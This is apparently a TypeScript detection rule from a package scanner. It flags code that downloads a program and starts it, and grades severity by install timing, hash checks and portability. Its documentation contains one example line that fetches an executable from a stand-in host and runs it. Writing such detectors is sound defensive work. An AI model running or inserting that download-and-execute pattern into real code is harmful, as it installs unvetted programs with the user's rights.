import { isModelService } from '../facts/collecting-places.js';
import { movesFiles, startsFile } from '../facts/programs.js';
import { isPure, without } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, WHEN } from './combination.js';
import { namesSomething } from './origin.js';

export const downloadStarted: Combination = {
  doc: {
    id: 'download-started',
    title: 'Downloads a program and starts it',
    why: 'The program is not part of the package that was checked, and it runs with your rights.',
    remedy: 'Do not install the package.',
    example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
    technique: 'T1105',
  },
  judge: ({ behaviour, labels, reach, host, text, hashes, isChecked, ...more }) => {
    if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
      return undefined;
    if (movesFiles(text ?? '')) return undefined;
    if (more.readsRepository === true) return 'LOW';
    // A build that fetches the source of a library and checks that it is the one it knows.
    if (reach === 'install' && isChecked === true && !startsFile(text ?? '')) return 'HIGH';
    if (isUnasked(reach)) return 'CRITICAL';
    if (isModelService(host)) return undefined;
    // Who runs what is sent to him, and sends back what it said, is a shell for others.
    const own = labels.has('remote-text') ? without(labels, 'process-output') : labels;
    // Who checks a hash checks a file.
    const isChecking = hashes === true && !labels.has('remote-text');
    const isFixed = host !== undefined && isPure(own) && !isChecking;
    const isSame = labels.has('remote-text') || labels.has('written');
    if (!isFixed || !(namesSomething(text) || isSame)) return 'LOW';
    // Who hides what he does says nothing; somebody has called this, and reads what it does.
    const isAnnounced = more.isAnnounced === true || (labels.has('announced') && more.isHushed !== true);
    // Who brings one for each system means it to be there, and not to be unnoticed on one.
    return isAnnounced || more.isPortable === true ? 'HIGH' : 'CRITICAL';
  },
  message: ({ name, reach }) => `${name} starts something that was downloaded ${WHEN[reach]}`,
};
